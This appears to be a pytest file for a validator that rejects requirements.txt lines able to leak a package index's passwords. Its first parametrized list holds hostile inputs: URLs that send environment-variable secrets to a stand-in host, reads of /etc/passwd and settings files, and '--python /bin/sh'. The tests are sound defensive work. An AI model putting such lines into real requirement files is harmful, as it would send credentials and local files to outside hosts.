"""What a list of requirements may ask of the installer, which knows the passwords of the server's index."""

from __future__ import annotations

import pytest

from labd.common.errors import ProjectError
from labd.projects.requirements.options import refuse_foreign


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url http://elsewhere.example/?x=${UV_DEFAULT_INDEX}",
        "--extra-index-url http://elsewhere.example/$PIP_INDEX_URL",
        "alpha @ https://elsewhere.example/${UV_DEFAULT_INDEX}/alpha.tar.gz",
        "alpha==${HOME}",
        "--trusted-host elsewhere.example",
        "--find-links file:///dev/labd",
        "--find-links /dev/labd",
        "-f/dev/labd",
        "--index-url file:///dev/labd",
        "-r /etc/passwd",
        "-r/dev/labd/settings",
        "-r https://elsewhere.example/list.txt",
        "-r ../../dev/labd/settings",
        "--requirement=https://elsewhere.example/list.txt",
        "-c file:///dev/labd/settings",
        "--config-settings=x=y",
        "--global-option build",
        "--install-option=x",
        "--python /bin/sh",
        "--keyring-provider subprocess",
        "--cert /dev/labd/settings",
        "--proxy http://elsewhere.example",
        "alpha --config-settings=x=y",
        "alpha --global-option=x --hash=sha256:00",
        "-",
        "--",
    ],
)
def test_a_line_that_could_lead_a_password_elsewhere_is_refused_by_name(line: str) -> None:
    with pytest.raises(ProjectError) as caught:
        refuse_foreign(["numpy", line], "requirements.txt")
    assert f"The line `{line[:20]}" in caught.value.message
    assert "code/requirements.txt" in caught.value.message
    assert caught.value.hint


@pytest.mark.parametrize(
    "line",
    [
        "numpy==1.26.4",
        "numpy==1.26.4 --hash=sha256:00 --hash=sha256:11",
        'pywin32; sys_platform == "win32"',
        "git+https://example.org/a.git@v1-beta",
        "--extra-index-url https://ana:own@download.example/whl/cu118",
        "--extra-index-url=https://download.example/whl/cu118",
        "-f https://download.example/list.html",
        "--no-binary numpy",
        "--only-binary :all:",
        "--pre",
        "--require-hashes",
        "-r more.txt",
        "-e .",
    ],
)
def test_a_line_that_leads_nothing_elsewhere_is_left_to_the_installer(line: str) -> None:
    # Of several lines, the one is named that leads elsewhere.
    with pytest.raises(ProjectError, match=r"^The line `--cert elsewhere`"):
        refuse_foreign([line, "--cert elsewhere"], "requirements.txt")
    refuse_foreign([line], "requirements.txt")
